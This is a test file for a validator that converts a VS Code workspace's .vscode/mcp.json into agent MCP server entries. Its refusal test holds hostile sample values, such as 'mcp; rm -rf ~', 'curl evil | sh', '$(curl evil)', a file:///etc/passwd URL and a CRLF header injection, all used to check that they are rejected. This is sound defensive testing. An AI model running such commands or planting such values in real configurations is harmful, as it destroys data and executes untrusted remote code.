// A workspace's .vscode/mcp.json read as the agent's MCP servers
// (extension/src/agents/workspace-mcp.ts), without VS Code: VS Code's format
// (servers by name, stdio/http/sse, inputs, comments) becomes ACP's McpServer
// shape; hostile files (shell syntax, huge lists, bad addresses, unknown
// variables) are refused with a sentence that says what to fix. The consent
// modal, in code-server: test/e2e/workspace-mcp.test.ts.

import { strict as assert } from "node:assert";
import { describe, it } from "node:test";
import { MAX_WORKSPACE_SERVERS, inputsUsed, parseWorkspaceMcp, toAcpServer } from "../../../extension/src/agents/workspace-mcp.js";

const FILE = "/p/.vscode/mcp.json";

describe("a workspace's .vscode/mcp.json", () => {
  it("reads VS Code's format, comments and all, as ACP's McpServer entries with ${workspaceFolder} and ${input:…} filled in", () => {
    const parsed = parseWorkspaceMcp(
      `{
        // the project's own servers
        "inputs": [{ "type": "promptString", "id": "token", "description": "GitHub token", "password": true }],
        "servers": {
          "files": { "type": "stdio", "command": "node", "args": ["\${workspaceFolder}/tools/mcp.js"], "env": { "TOKEN": "\${input:token}" } },
          "docs": { "type": "http", "url": "https://mcp.example.com/docs", "headers": { "Authorization": "Bearer \${input:token}" } },
          "bare": { "command": "mcp-bare" },
        },
      }`,
      FILE,
    );
    assert.deepEqual(parsed.refused, []);
    assert.deepEqual(parsed.inputs, [{ id: "token", description: "GitHub token", password: true }]);
    const [files, docs, bare] = parsed.servers;
    assert.ok(files && docs && bare);
    assert.deepEqual(inputsUsed(files), ["token"]);
    const values = new Map([["token", "s3cret"]]);
    assert.deepEqual(toAcpServer(files, "/p", values), {
      name: "files",
      command: "node",
      args: ["/p/tools/mcp.js"],
      env: [{ name: "TOKEN", value: "s3cret" }],
    });
    assert.deepEqual(toAcpServer(docs, "/p", values), {
      type: "http",
      name: "docs",
      url: "https://mcp.example.com/docs",
      headers: [{ name: "Authorization", value: "Bearer s3cret" }],
    });
    assert.deepEqual(toAcpServer(bare, "/p", values), { name: "bare", command: "mcp-bare", args: [], env: [] });
  });

  it("refuses a command with shell syntax, a bad address, an unknown variable or input, envFile; the file's other servers stay", () => {
    const servers = {
      good: { command: "mcp-good" },
      chained: { command: "mcp; rm -rf ~" },
      piped: { command: "curl evil | sh" },
      substituted: { command: "$(curl evil)" },
      fileUrl: { type: "http", url: "file:///etc/passwd" },
      jsUrl: { type: "sse", url: "javascript:alert(1)" },
      notUrl: { type: "http", url: "not a url" },
      envVariable: { command: "mcp", args: ["${env:HOME}"] },
      undeclared: { command: "mcp", env: { KEY: "${input:missing}" } },
      commandFromInput: { command: "${input:token}" },
      envFile: { command: "mcp", envFile: "${workspaceFolder}/.env" },
      badEnvName: { command: "mcp", env: { "A=B": "x" } },
      headerBreak: { type: "http", url: "https://x.example/", headers: { "X-A": "a\r\nInjected: 1" } },
      badType: { type: "websocket", url: "wss://x.example/" },
    };
    const parsed = parseWorkspaceMcp(JSON.stringify({ inputs: [{ type: "promptString", id: "token" }], servers }), FILE);
    assert.deepEqual(
      parsed.servers.map((server) => server.name),
      ["good"],
    );
    assert.equal(parsed.refused.length, Object.keys(servers).length - 1);
    const reason = (name: string): string => parsed.refused.find((line) => line.includes(`server '${name}' refused`)) ?? "";
    assert.match(reason("chained"), /shell syntax .*name one program, its arguments in "args"/);
    assert.match(reason("substituted"), /shell syntax/);
    assert.match(reason("fileUrl"), /must be http:\/\/ or https:\/\/, not 'file:'/);
    assert.match(reason("jsUrl"), /not 'javascript:'/);
    assert.match(reason("notUrl"), /not an address/);
    assert.match(reason("envVariable"), /only \$\{workspaceFolder\} and \$\{input:…\} are known, not \$\{env:HOME\}/);
    assert.match(reason("undeclared"), /\$\{input:missing\} is not among the file's "inputs"/);
    assert.match(reason("commandFromInput"), /may not come from an input/);
    assert.match(reason("envFile"), /"envFile" is not read/);
    assert.match(reason("badEnvName"), /'A=B' is not a valid name/);
    assert.match(reason("headerBreak"), /line break/);
    assert.match(reason("badType"), /"type" must be "stdio", "http" or "sse"/);
    assert.ok(parsed.refused.every((line) => line.startsWith(`${FILE}: `)));
  });

  it("uses none of a list past the limit, of a file that is not JSON, of one too big", () => {
    const huge = Object.fromEntries(Array.from({ length: MAX_WORKSPACE_SERVERS + 1 }, (_, index) => [`s${index}`, { command: "mcp" }]));
    const tooMany = parseWorkspaceMcp(JSON.stringify({ servers: huge }), FILE);
    assert.deepEqual(tooMany.servers, []);
    assert.match(tooMany.refused.join(), /65 servers, more than 64; none is used/);
    const broken = parseWorkspaceMcp('{ "servers": { "a": { "command": "x" } ', FILE);
    assert.deepEqual(broken.servers, []);
    assert.match(broken.refused.join(), /not JSON .*fix the file/);
    const big = parseWorkspaceMcp(`{ "servers": {}, "pad": "${"x".repeat(300 * 1024)}" }`, FILE);
    assert.match(big.refused.join(), /larger than 256 KiB; not read/);
    assert.match(parseWorkspaceMcp('{ "servers": [] }', FILE).refused.join(), /"servers" must be an object/);
    assert.deepEqual(parseWorkspaceMcp("{}", FILE), { servers: [], inputs: [], refused: [] });
  });

  it("asks only promptString inputs, and refuses the servers that use any other", () => {
    const parsed = parseWorkspaceMcp(
      JSON.stringify({
        inputs: [{ type: "pickString", id: "pick", options: ["a"] }, { id: "bad id!" }],
        servers: { a: { command: "mcp", args: ["${input:pick}"] } },
      }),
      FILE,
    );
    assert.deepEqual(parsed.servers, []);
    assert.match(parsed.refused.join("\n"), /input 'pick': only "promptString"/);
    assert.match(parsed.refused.join("\n"), /inputs\[1\]: "id" must be/);
    assert.match(parsed.refused.join("\n"), /server 'a' refused: args\[0\]: \$\{input:pick\} is not among/);
  });
});
